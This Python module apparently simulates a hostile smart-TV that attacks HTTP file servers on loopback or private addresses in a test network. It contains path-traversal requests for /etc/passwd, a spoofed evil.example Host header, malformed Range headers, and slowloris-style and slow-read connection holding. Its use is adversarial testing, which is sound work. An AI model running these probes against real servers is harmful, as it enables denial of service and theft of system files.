"""What a hostile television does to a file server that it has heard of.

Only servers with an address of loopback or of a private network: what others talk about in a simulation may
be a real server, which is nobody's to harm.
"""

import asyncio
import re
from collections.abc import Iterable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from datetime import timedelta
from ipaddress import ip_address
from typing import Final
from urllib.parse import urlsplit

_URL: Final = re.compile(rb"http://[0-9.]{7,15}(?::[0-9]{1,5})?/[!-~]{0,500}?(?=[\"'\\\s]|$)")
_PATIENCE: Final = timedelta(seconds=5)
_HOLDING: Final = timedelta(seconds=2)
_CRUMB: Final = timedelta(milliseconds=50)
_HIGHEST_PORT: Final = 65535
_RANGES: Final = (
    ",".join(["0-"] * 1000),
    ",".join(f"{place}-{place}" for place in range(1000)),
    "0-18446744073709551616",
    "-0",
    "9-1",
    "99999999999-",
    "x-y",
)


@dataclass(frozen=True, slots=True)
class Server:
    """A file on a server that it has heard of.

    Attributes:
        host: its address.
        port: where it listens.
        path: of the file.
        source: the address that the television comes from; empty for whichever it has.
    """

    host: str
    port: int
    path: str
    source: str = ""


def overheard(payload: bytes) -> Iterator[Server]:
    """The files on servers nearby that a message names."""
    for found in _URL.findall(payload):
        parts = urlsplit(found.decode("ascii"))
        with suppress(ValueError):
            address, port = ip_address(parts.hostname or ""), parts.port or 80
            if (address.is_loopback or address.is_private) and 0 < port <= _HIGHEST_PORT:
                yield Server(str(address), port, parts.path or "/")


async def wander(server: Server) -> list[str]:
    """Ask for other paths, and with other methods; what was answered, in order."""
    folder, _, name = server.path.rpartition("/")
    turned = server.path[:-1] + ("a" if server.path[-1:] != "a" else "b")
    paths = (
        "/",
        f"{folder}/",
        turned,
        f"{folder}/../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        f"{server.path}/",
        f"{server.path}?x=1",
        f"//{name}",
        "/" + "x" * 9000,
    )
    answers = [await _asked(server, "GET", path) for path in paths]
    answers += [await _asked(server, method, server.path) for method in ("PUT", "POST", "DELETE", "TRACE")]
    answers.append(await _asked(server, "GET", server.path, "Host: evil.example"))
    return answers


async def ranges(server: Server) -> list[str]:
    """Ask for many ranges, and for impossible ones."""
    return [await _asked(server, "GET", server.path, f"Range: bytes={one}") for one in _RANGES]


async def crowd(server: Server, many: int) -> list[str]:
    """Hold many connections with half a request on each; how many were opened, and how many stood."""
    opened = await asyncio.gather(*(_half_asked(server) for _ in range(many)))
    held = [one for one in opened if one is not None]
    await asyncio.sleep(_HOLDING.total_seconds())
    # A server that has closed its side may be met by an end of what can be read alone.
    stood = sum(not reader.at_eof() and not writer.transport.is_closing() for reader, writer in held)
    for _, writer in held:
        writer.close()
    return [f"opened {len(held)}", f"stood {stood}"]


async def dawdle(server: Server) -> list[str]:
    """Read a byte at a time for a while; how many came."""
    come = 0
    with suppress(OSError, TimeoutError):
        reader, writer = await _connected(server)
        try:
            writer.write(_request(server, "GET", server.path))
            async with asyncio.timeout(_HOLDING.total_seconds()):
                while await reader.read(1):
                    come += 1
                    await asyncio.sleep(_CRUMB.total_seconds())
        finally:
            writer.close()
    return [f"bytes {come}"]


async def _asked(server: Server, method: str, path: str, *headers: str) -> str:
    """The status of an answer, and how many bytes came; or why there was none."""
    try:
        async with asyncio.timeout(_PATIENCE.total_seconds()):
            reader, writer = await _connected(server)
            try:
                writer.write(_request(server, method, path, headers))
                line = await reader.readline()
                come = 0
                while data := await reader.read(65536):
                    come += len(data)
            finally:
                writer.close()
    except TimeoutError:
        return "timed out"
    except OSError as why:
        return why.strerror or "refused"
    except ValueError:
        return "no HTTP"
    words = line.decode("latin-1").split()
    return f"{words[1]} {come}" if len(words) > 1 else "closed"


async def _half_asked(server: Server) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
    with suppress(OSError, TimeoutError):
        reader, writer = await _connected(server)
        writer.write(f"GET {server.path} HTTP/1.1\r\nHost: {server.host}\r\nX-Wait: ".encode())
        return reader, writer
    return None


async def _connected(server: Server) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    async with asyncio.timeout(_PATIENCE.total_seconds()):
        source = (server.source, 0) if server.source else None
        return await asyncio.open_connection(server.host, server.port, local_addr=source)


def _request(server: Server, method: str, path: str, headers: Iterable[str] = ()) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", f"Host: {server.host}", "Connection: close", *headers]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()
